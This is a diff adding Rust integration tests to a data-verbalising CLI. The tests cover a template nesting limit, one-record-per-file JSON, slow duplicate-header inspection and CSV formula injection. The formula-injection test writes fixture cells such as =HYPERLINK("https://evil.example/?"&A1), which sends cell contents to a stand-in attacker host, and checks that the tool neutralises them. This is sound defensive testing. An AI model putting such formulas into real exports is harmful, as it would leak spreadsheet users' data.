@@ -112,8 +112,100 @@ fn edited_templates_are_validated_with_positions_and_used() {
     let out = run(&["verbalise", "--format", "csv", "--template", good.to_str().unwrap(), fixture("students.json").to_str().unwrap()]);
     assert!(out.status.success());
     let csv = String::from_utf8(out.stdout).unwrap();
-    assert!(csv.starts_with("file,table,row,columns,text\n"));
-    assert!(csv.contains(",1,Matr_Nr|Name|Program,Ada Lovelace (S1001) studies Mathematics.\n"), "{csv}");
+    assert!(csv.starts_with("\"file\",\"table\",\"row\",\"columns\",\"text\"\n"), "{csv}");
+    assert!(csv.contains(",\"1\",\"Matr_Nr|Name|Program\",\"Ada Lovelace (S1001) studies Mathematics.\"\n"), "{csv}");
+}
+
+#[test]
+fn deeply_nested_templates_are_an_error_not_a_crash() {
+    // Issue 20: 20,000 nested sections overflowed the stack (templates also travel in bundles).
+    let dir = tempfile::tempdir().unwrap();
+    let template = dir.path().join("deep.txt");
+    std::fs::write(&template, format!("{}x{}", "{{#Name}}".repeat(20_000), "{{/Name}}".repeat(20_000))).unwrap();
+    let out = run(&["verbalise", "--template", template.to_str().unwrap(), fixture("students.json").to_str().unwrap()]);
+    // Exit code 2 (an error), not a signal (the stack overflow aborted).
+    assert_eq!(out.status.code(), Some(2), "{:?}", out.status);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("line 1, column 901") && err.contains("nested more than 100 deep"), "{err}");
+}
+
+#[test]
+fn one_student_per_file_is_one_table_of_records() {
+    // Issue 20: each one-object file kept only its list of exams, as a table of its own.
+    let dir = fixture("student-records");
+    let mut files: Vec<String> = std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().path().display().to_string()).collect();
+    files.sort();
+    let mut args = vec!["template"];
+    args.extend(files.iter().map(String::as_str));
+    let out = run(&args);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let template = String::from_utf8(out.stdout).unwrap();
+    assert_eq!(
+        template.trim_end(),
+        "The value for 'file' is {{file}}. The value for 'Matr_Nr' is {{Matr_Nr}}. The value for 'First_Name' is {{First_Name}}. \
+         The value for 'Last_Name' is {{Last_Name}}. The value for 'Subject' is {{Subject}}. The field 'Exams' is a list where each \
+         item contains: {{#Exams|; }}Course: {{Course}}, Date: {{Date}}, ECTS: {{ECTS}}, Grade: {{Grade}}{{/Exams}}."
+    );
+    args[0] = "verbalise";
+    let out = run(&args);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let lines: Vec<Value> = String::from_utf8(out.stdout).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    assert_eq!(lines.len(), 4);
+    for (i, (line, file)) in lines.iter().zip(&files).enumerate() {
+        assert_eq!(line["provenance"]["table"], "student");
+        assert_eq!(line["provenance"]["row"], i + 1);
+        assert!(line["text"].as_str().unwrap().starts_with(&format!("The value for 'file' is {file}. The value for 'Matr_Nr' is ")), "{line}");
+    }
+    assert!(lines[3]["text"].as_str().unwrap().contains("'First_Name' is Mateo. The value for 'Last_Name' is García."), "{}", lines[3]);
+    let (report, _) = inspect_json(&files.iter().map(PathBuf::from).collect::<Vec<_>>());
+    assert_eq!(report["tables"].as_array().unwrap().len(), 1, "{report}");
+    assert_eq!(report["tables"][0]["rows"], 4);
+}
+
+#[test]
+fn sixteen_thousand_duplicate_headers_inspect_quickly() {
+    // Issue 20: 16,000 columns all named "a" (a 64 KB file) took 11.7 s to inspect.
+    let dir = tempfile::tempdir().unwrap();
+    let wide = dir.path().join("wide.csv");
+    let n = 16_000;
+    std::fs::write(&wide, format!("{}\n{}\n", vec!["a"; n].join(","), vec!["1"; n].join(","))).unwrap();
+    let started = std::time::Instant::now();
+    let (report, out) = inspect_json(&[wide]);
+    let took = started.elapsed();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(report["tables"][0]["columns"].as_array().unwrap().len(), n);
+    assert_eq!(report["tables"][0]["columns"][n - 1]["name"], format!("a ({n})"));
+    assert!(took < std::time::Duration::from_secs(4), "inspect took {took:?}");
+}
+
+#[test]
+fn verbalise_csv_neutralises_formula_cells() {
+    // Issue 20: cells starting with =, +, -, @ (and tab, carriage return) were written as they
+    // were, so opening the export in a spreadsheet ran them.
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("=evil.csv");
+    std::fs::write(
+        &data,
+        "name,note\n\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\",x\n@SUM(A1:A9),y\n+1,z\n-2+3,w\nAda,\"a;=1+1\"\n",
+    )
+    .unwrap();
+    let template = dir.path().join("t.txt");
+    std::fs::write(&template, "{{name}}").unwrap();
+    let out = run(&["verbalise", "--format", "csv", "--template", template.to_str().unwrap(), data.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let csv = String::from_utf8(out.stdout).unwrap();
+    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let texts: Vec<&str> = records.iter().map(|r| &r[4]).collect();
+    assert_eq!(texts, ["'=HYPERLINK(\"https://evil.example/?\"&A1)", "'@SUM(A1:A9)", "'+1", "'-2+3", "Ada"], "{csv}");
+    for r in &records {
+        for cell in r.iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {csv}");
+        }
+        assert_eq!(&r[1], "'=evil", "the table name (the file's stem) is neutralised too");
+    }
+    // Every field is quoted, so a `;` in a cell cannot split it in a locale that separates on `;`.
+    assert!(csv.lines().all(|l| l.starts_with('"') && l.ends_with('"')), "{csv}");
 }
 
 #[test]
